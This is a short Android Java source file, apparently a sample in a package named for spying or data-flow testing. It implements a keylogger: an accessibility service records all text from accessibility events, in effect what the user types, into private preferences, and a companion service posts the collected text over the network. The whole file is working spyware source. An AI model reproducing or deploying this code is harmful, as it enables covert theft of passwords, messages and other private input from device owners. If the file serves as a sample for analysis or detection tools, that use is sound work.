package org.example.flows.spy;

import android.accessibilityservice.AccessibilityService;
import android.app.Service;
import android.content.Intent;
import android.content.SharedPreferences;
import android.os.IBinder;
import android.view.accessibility.AccessibilityEvent;
import org.example.flows.Net;

/** What is typed is collected in the settings and sent by another service. */
public class KeyLog extends AccessibilityService {
    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        SharedPreferences kept = getSharedPreferences("keys", MODE_PRIVATE);
        String before = kept.getString("typed", "");
        StringBuilder all = new StringBuilder(before);
        for (CharSequence part : event.getText()) {
            all.append(part);
        }
        kept.edit().putString("typed", all.toString()).commit();
    }

    @Override
    public void onInterrupt() {
    }

    public static class Sender extends Service {
        @Override
        public int onStartCommand(Intent intent, int flags, int startId) {
            Net.post(getSharedPreferences("keys", MODE_PRIVATE).getString("typed", ""));
            return START_NOT_STICKY;
        }

        @Override
        public IBinder onBind(Intent intent) {
            return null;
        }
    }
}
